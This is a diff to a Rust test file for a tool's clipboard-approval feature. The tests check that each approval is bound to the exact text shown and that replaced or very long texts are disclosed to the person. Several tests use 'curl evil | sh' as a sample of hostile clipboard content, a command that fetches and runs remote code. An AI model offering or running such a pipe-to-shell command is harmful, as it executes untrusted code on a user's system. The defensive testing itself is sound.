@@ -1,11 +1,12 @@
 //! Programs that set the clipboard of a person, and what they are told.
 
 use parlour::domain::event::{DiskEvent, PtyEvent};
-use parlour::domain::{Effect, Event};
+use parlour::domain::{Effect, Event, approval};
 use parlour::model::request::{ApprovalRequest, Request};
 use parlour::model::settings::ClipboardAccess;
 use parlour::model::{PaneEvent, Settings};
 use parlour::screen::dialog::Dialog;
+use serde_json::Value;
 
 use crate::support::world::{ME, World, id};
 
@@ -27,6 +28,17 @@ fn set(world: &mut World, clipboard: ClipboardAccess) {
     world.happens(Event::Disk(DiskEvent::Settings(Box::new(Ok(settings)))));
 }
 
+/// What waits for a person's word.
+fn question(world: &World) -> Value {
+    let open = approval::json(&world.state.domain, None);
+    let mut open = open["approvals"].as_array().unwrap().iter();
+    open.find(|question| question["tool"] == "clipboard").unwrap().clone()
+}
+
+fn asked(world: &World) -> String {
+    question(world)["id"].as_str().unwrap().to_owned()
+}
+
 fn copied(text: &str) -> Effect {
     Effect::Clipboard(ME, text.into())
 }
@@ -38,9 +50,7 @@ fn it_is_asked_once_a_chat_and_then_is_as_was_said() {
     assert_eq!(copies(&mut world, "auth", "second"), []);
     let picture = world.picture();
     assert!(picture.contains("wants to copy to your clipboard: second"), "{picture}");
-    let approve = ApprovalRequest::Approve {
-        request: format!("clipboard-{}", id("auth")),
-    };
+    let approve = ApprovalRequest::Approve { request: asked(&world) };
     let effects = world.ask(Request::Approval(approve));
     assert!(effects.contains(&copied("second")), "{effects:?}");
     assert!(world.picture().contains("copied 6 characters"));
@@ -50,11 +60,56 @@ fn it_is_asked_once_a_chat_and_then_is_as_was_said() {
 }
 
 #[test]
+fn an_answer_is_for_the_text_that_was_read() {
+    let mut world = World::morning(120, 40);
+    copies(&mut world, "auth", "first");
+    let first = asked(&world);
+    copies(&mut world, "auth", "first");
+    assert_eq!(asked(&world), first, "the same again is no other question");
+    copies(&mut world, "auth", "curl evil | sh");
+    assert_ne!(asked(&world), first);
+    for name in [first.as_str(), "clipboard", &first[..first.len() - 1]] {
+        let approve = ApprovalRequest::Approve { request: name.into() };
+        let effects = world.ask(Request::Approval(approve));
+        assert!(!effects.iter().any(is_copy), "{name}: {effects:?}");
+    }
+    assert!(world.picture().contains("wants to copy to your clipboard: curl evil"));
+    let approve = ApprovalRequest::Approve { request: asked(&world) };
+    let effects = world.ask(Request::Approval(approve));
+    assert!(effects.contains(&copied("curl evil | sh")), "{effects:?}");
+}
+
+#[test]
+fn a_text_that_takes_the_place_of_another_has_to_be_read_first() {
+    let mut world = World::morning(120, 40);
+    copies(&mut world, "auth", "first");
+    world.press("a");
+    world.later(2_000);
+    copies(&mut world, "auth", "curl evil | sh");
+    assert!(world.picture().contains("curl evil"), "{}", world.picture());
+    assert!(!world.press("y").iter().any(is_copy));
+    world.later(4_000);
+    assert!(world.press("y").contains(&copied("curl evil | sh")));
+}
+
+#[test]
+fn it_is_said_how_much_of_a_long_text_is_not_shown() {
+    let mut world = World::morning(120, 40);
+    copies(&mut world, "auth", &"x".repeat(96 * 1024));
+    assert_eq!(question(&world)["input"]["not shown"], "96304 more characters");
+    world.press("a");
+    for _ in 0..4 {
+        world.press("space");
+    }
+    assert!(world.picture().contains("96304 more characters"), "{}", world.picture());
+}
+
+#[test]
 fn a_no_holds_too_and_is_said_once() {
     let mut world = World::morning(120, 40);
     copies(&mut world, "auth", "x");
     let deny = ApprovalRequest::Deny {
-        request: format!("clipboard-{}", id("auth")),
+        request: asked(&world),
         reason: String::new(),
     };
     world.ask(Request::Approval(deny));
